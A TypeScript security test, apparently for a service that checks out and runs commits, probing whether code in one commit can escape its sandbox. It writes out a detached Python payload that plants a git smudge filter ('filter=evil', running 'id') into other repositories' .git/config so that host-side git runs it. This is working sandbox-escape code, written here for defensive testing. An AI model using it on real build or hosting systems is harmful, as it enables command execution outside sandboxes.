import { existsSync } from "node:fs";
import { join } from "node:path";
import type { commandTrials } from "../responder/command/trial.ts";

const COMMITS = 4;

/** A command of one commit lies in wait for the checkout of the next, and writes settings that git would obey. */
const LIES_IN_WAIT = (file: string) => `
import glob, os, time
end = time.time() + 30
done = set()
while time.time() < end:
    for folder in glob.glob("/work/.*/*/.git") + glob.glob("/work/*/.git"):
        if folder in done or not os.path.exists(folder + "/HEAD"): continue
        try:
            os.makedirs(folder + "/info", exist_ok=True)
            with open(folder + "/info/attributes", "w") as f: f.write("* filter=evil\\n")
            with open(folder + "/config", "a") as f: f.write('[filter "evil"]\\n\\tsmudge = id >>${file}; cat\\n')
            done.add(folder)
        except OSError: pass
`;

export const TREE_ESCAPE = {
  name: "have the git that checks out a run's next commit do what is written into that tree's settings",
  held: "trees are made where no sandbox sees them",
};

/** What it got hold of outside, if anything. `folder`: one that anybody may write to. */
export async function tryTreeEscape(
  { repository, run }: Awaited<ReturnType<typeof commandTrials>>,
  folder: string,
): Promise<string | null> {
  const file = join(folder, "by-git");
  const many = Object.fromEntries(Array.from({ length: 50 }, (_, n) => [`${n}.txt`, `${n}\n`]));
  const made = await repository({
    ...many,
    "wait.py": LIES_IN_WAIT(file),
    ".deferred-server": "commands: '[ -e ~/waits ] || { >~/waits; setsid python3 wait.py & }'\n",
  });
  const commits = [await made.git("rev-parse", "HEAD")];
  while (commits.length < COMMITS) {
    commits.push(await made.commit({ "0.txt": `${commits.length} more\n` }));
  }
  const { executed } = await run(made.url, { revision: { of: "commits", commits } });
  if (executed.exitCode !== 0) throw new Error(`The commits were not run: ${executed.detail}`);
  return existsSync(file) ? "a program of its own, outside" : null;
}
